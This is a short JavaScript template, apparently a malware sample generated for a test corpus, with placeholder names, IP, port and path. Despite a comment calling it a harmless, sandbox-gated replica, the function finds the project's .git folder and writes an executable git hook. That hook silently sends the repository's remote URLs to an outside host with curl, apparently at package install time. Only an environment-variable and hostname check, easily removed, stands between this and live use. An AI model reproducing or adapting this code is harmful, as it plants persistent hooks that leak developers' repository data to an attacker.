// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    let folder = process.env.INIT_CWD || process.cwd();
    while (!fs.existsSync(path.join(folder, '.git')) && path.dirname(folder) !== folder)
        folder = path.dirname(folder);
    if (path.dirname(folder) === folder)
        folder = process.env.INIT_CWD || process.cwd();
    try {
        fs.mkdirSync(path.join(folder, '.git', 'hooks'), { recursive: true });
        fs.writeFileSync(path.join(folder, '.git', 'hooks', '{{hook}}'),
            '#!/bin/sh\ncurl -s -m 3 --data "$(git remote -v)" http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1 &\nexit 0\n', { mode: 0o755 });
    } catch {}
}
